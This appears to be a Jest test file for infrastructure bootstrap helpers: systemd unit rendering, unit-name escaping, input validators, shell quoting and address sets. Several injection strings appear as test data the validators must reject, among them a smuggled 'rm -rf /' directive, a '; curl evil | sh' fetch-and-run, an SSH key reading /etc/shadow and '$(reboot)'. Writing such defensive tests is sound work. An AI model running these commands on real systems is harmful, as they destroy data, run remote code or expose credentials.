import { spawnSync } from 'child_process';
import {
  addressSet,
  BootstrapError,
  checkCidr,
  checkFqdn,
  checkIPv4,
  checkK3sVersion,
  checkLabel,
  checkLine,
  checkPath,
  checkSshKey,
  checkUnitName,
  deviceUnitName,
  lines,
  mergePlans,
  mountUnitName,
  renderUnit,
  shellQuote,
} from '../../../infra/bootstrap/common';
import { withTools } from '../../support/validators/bootstrap';

describe('mergePlans', () => {
  it('keeps order, dedupes packages, merges an OS unit with our drop-ins', () => {
    const p = mergePlans(
      { files: [{ path: '/a', mode: 0o644, content: 'a' }], units: [{ name: 'x.service', enabled: true }], packages: ['p', 'q'], commands: [['one']] },
      { files: [{ path: '/b', mode: 0o600, content: 'b' }], units: [{ name: 'x.service', dropins: [{ name: '10.conf', contents: '[Unit]\n' }] }], packages: ['q', 'r'], commands: [['two']] },
    );
    expect(p.files.map((f) => f.path)).toEqual(['/a', '/b']);
    expect(p.packages).toEqual(['p', 'q', 'r']);
    expect(p.commands).toEqual([['one'], ['two']]);
    expect(p.units).toEqual([{ name: 'x.service', contents: undefined, enabled: true, dropins: [{ name: '10.conf', contents: '[Unit]\n' }] }]);
  });

  it('refuses two files at one path and two definitions of one unit', () => {
    const f = { files: [{ path: '/a', mode: 0o644, content: 'a' }], units: [], packages: [], commands: [] };
    expect(() => mergePlans(f, f)).toThrow('two bootstrap pieces write /a');
    const u = { files: [], units: [{ name: 'x.service', contents: '[Unit]\n' }], packages: [], commands: [] };
    expect(() => mergePlans(u, u)).toThrow('two bootstrap pieces define unit x.service');
  });
});

describe('renderUnit', () => {
  it('repeats array keys, writes booleans as yes/no, skips undefined, escapes %', () => {
    expect(renderUnit('h', { Unit: { After: ['a.target', 'b.service'], Skip: undefined }, Service: { RemainAfterExit: true, ExecStart: '/bin/printf %s' } })).toBe(
      lines('# h', '', '[Unit]', 'After=a.target', 'After=b.service', '', '[Service]', 'RemainAfterExit=yes', 'ExecStart=/bin/printf %%s'),
    );
  });

  it('refuses a value with a line break (it would inject a directive)', () => {
    expect(() => renderUnit('h', { Service: { ExecStart: '/bin/true\nExecStartPost=/bin/rm -rf /' } })).toThrow(BootstrapError);
  });
});

describe('unit names', () => {
  for (const p of ['/var/lib/longhorn', '/srv/nfs', '/srv/postgresql', '/srv/long-horn/x.y', '/srv/.hidden', '/mnt/longhorn-disk']) {
    withTools(it, ['systemd-escape'])(`mountUnitName(${p}) matches systemd-escape --path`, () => {
      expect(mountUnitName(p)).toBe(`${spawnSync('systemd-escape', ['--path', p], { encoding: 'utf8' }).stdout.trim()}.mount`);
    });
  }

  it('mount units of our mount points', () => {
    expect(mountUnitName('/var/lib/longhorn')).toBe('var-lib-longhorn.mount');
    expect(mountUnitName('/srv/long-horn')).toBe('srv-long\\x2dhorn.mount');
  });

  it('device units', () => {
    expect(deviceUnitName('/dev/vdb')).toBe('dev-vdb.device');
  });

  it('checkUnitName accepts ours and the OS ones, refuses the rest', () => {
    for (const n of ['k3s.service', 'var-lib-longhorn.mount', 'wg-quick@wg0.service', 'var-lib-long\\x2dhorn.mount']) expect(checkUnitName(n)).toBe(n);
    for (const n of ['k3s', 'a b.service', 'x.service;reboot', '../x.service']) expect(() => checkUnitName(n)).toThrow(BootstrapError);
  });
});

describe('checks refuse what could inject', () => {
  it.each([
    ['label', () => checkLabel('node;reboot', 'node name')],
    ['label', () => checkLabel('Node', 'node name')],
    ['fqdn', () => checkFqdn('a.b\nserver=6.6.6.6', 'domain')],
    ['ipv4', () => checkIPv4('10.0.0.1 ; rm', 'address')],
    ['ipv4', () => checkIPv4('010.0.0.1', 'address')],
    ['cidr', () => checkCidr('10.0.0.1/24', 'block')],
    ['path', () => checkPath('/srv/$(reboot)', 'path')],
    ['path', () => checkPath('/srv/../etc', 'path')],
    ['path', () => checkPath('relative', 'path')],
    ['version', () => checkK3sVersion('v1.33.5+k3s1; curl evil | sh')],
    ['line', () => checkLine('a\rb', 'value')],
    ['ssh', () => checkSshKey('ssh-ed25519 AAAA x\nssh-rsa AAAA y')],
    ['ssh', () => checkSshKey('ssh-ed25519 AAAAC3Nz me@${file("/etc/shadow")}')],
    ['ssh', () => checkSshKey('ssh-ed25519 AAAAC3Nz %{ for x in y }')],
  ])('%s', (_what, fn) => {
    expect(fn).toThrow(BootstrapError);
  });

  it('accept the plain values', () => {
    expect(checkCidr('10.17.4.21', 'x')).toBe('10.17.4.21/32');
    expect(checkCidr('10.42.0.0/16', 'x')).toBe('10.42.0.0/16');
    expect(checkSshKey('ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHf6 admin@microcloud (laptop)')).toContain('laptop');
    expect(checkK3sVersion('v1.33.5+k3s1')).toBe('v1.33.5+k3s1');
  });
});

describe('shellQuote', () => {
  it.each(["plain", "it's", "$(reboot)", '`id`', 'a"b', "'; rm -rf / #"])('round-trips %s through sh', (v) => {
    const r = spawnSync('sh', ['-c', `printf %s ${shellQuote(v)}`], { encoding: 'utf8' });
    expect(r.stdout).toBe(v);
  });
});

describe('addressSet', () => {
  it('sorts numerically, dedupes, drops what a block covers', () => {
    expect(addressSet(['10.17.4.21', '10.17.4.0/24', '10.17.3.12', '10.17.3.12', '192.168.0.0/24', '10.17.3.2'])).toEqual(['10.17.3.2', '10.17.3.12', '10.17.4.0/24', '192.168.0.0/24']);
  });
  it('refuses a block with host bits set', () => {
    expect(() => addressSet(['10.17.4.1/24'])).toThrow(BootstrapError);
  });
});
